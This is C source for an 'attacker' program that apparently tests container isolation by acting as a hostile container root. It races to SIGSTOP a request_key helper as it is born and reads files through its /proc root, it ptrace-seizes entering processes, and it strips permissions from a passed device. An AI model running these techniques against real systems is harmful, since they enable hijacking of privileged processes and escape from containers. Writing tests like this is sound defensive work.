// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What the root of a container tries on those who enter it
 *
 * attacker stop ROUNDS FILE   asks for a key in a child and stops the pid that
 *                             comes next as soon as it is there; then opens FILE
 *                             below its root. Prints "stopped" or "missed" for
 *                             each round, "REACHED" where FILE opens
 * attacker hold               a handler whose fork traces it and waits for nothing
 * attacker seize NAME         waits for a process with that executable, attaches
 *                             to it; prints "SEIZED" or the errno's name
 * attacker spoil              a handler that takes all rights from the null device
 *                             it was given
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void pause_ms(long ms)
{
	const struct timespec time = { .tv_sec = ms / 1000, .tv_nsec = ms % 1000 * 1000000 };

	nanosleep(&time, NULL);
}

static pid_t requester_start(int round)
{
	char description[64];
	pid_t pid = fork();

	if (pid)
		return pid;
	snprintf(description, sizeof(description), "stop:%d:%d", round, getpid());
	syscall(SYS_request_key, "user", description, "c", -3);
	_exit(0);
}

/* 1: stopped. 0: its requester has ended first. */
static int stop_at_birth(pid_t target, pid_t requester)
{
	while (kill(target, SIGSTOP) < 0)
		if (waitpid(requester, NULL, WNOHANG) == requester)
			return 0;
	return 1;
}

static int reach(pid_t pid, const char *file)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	close(fd);
	return 1;
}

static int verb_stop(char **argv)
{
	int rounds = argv[0] ? atoi(argv[0]) : 0;

	if (rounds < 1 || !argv[1])
		return 2;
	for (int round = 0; round < rounds; round++) {
		pid_t requester = requester_start(round);
		pid_t target = requester + 1;

		if (!stop_at_birth(target, requester)) {
			puts("missed");
			continue;
		}
		pause_ms(50);
		puts(reach(target, argv[1]) ? "REACHED" : "stopped");
		kill(target, SIGCONT);
		waitpid(requester, NULL, 0);
	}
	return 0;
}

static int verb_hold(char **argv)
{
	int ready[2];
	char byte;

	(void)argv;
	if (pipe(ready))
		return 1;
	if (!fork()) {
		byte = ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) ? 'n' : 'y';
		(void)!write(ready[1], &byte, 1);
		for (;;)
			pause();
	}
	(void)!read(ready[0], &byte, 1);
	return byte == 'y' ? 0 : 3;
}

static pid_t find(const char *name)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	pid_t found = 0;

	while (proc && !found && (entry = readdir(proc))) {
		char path[PATH_MAX], comm[64] = "";
		FILE *file;

		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", entry->d_name);
		file = fopen(path, "re");
		if (!file)
			continue;
		if (fgets(comm, sizeof(comm), file) && strstr(comm, name) &&
		    atoi(entry->d_name) != getpid())
			found = atoi(entry->d_name);
		fclose(file);
	}
	if (proc)
		closedir(proc);
	return found;
}

static int verb_seize(char **argv)
{
	pid_t pid = 0;

	if (!argv[0])
		return 2;
	for (int i = 0; i < 2000 && !pid; i++) {
		pid = find(argv[0]);
		pause_ms(5);
	}
	if (!pid) {
		puts("not seen");
		return 1;
	}
	pause_ms(300); /* it is what it is now: exec is long over */
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		puts(strerrorname_np(errno));
	else
		puts("SEIZED");
	return 0;
}

static int verb_spoil(char **argv)
{
	(void)argv;
	return fchmod(1, 0600) ? 1 : 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(char **argv);
	} verbs[] = { { "stop", verb_stop },
		      { "hold", verb_hold },
		      { "seize", verb_seize },
		      { "spoil", verb_spoil } };
	const char *name = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	for (size_t i = 0; i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (!strcmp(name, verbs[i].name))
			return verbs[i].run(argv + 2);
	fprintf(stderr, "attacker: bad usage\n");
	return 2;
}
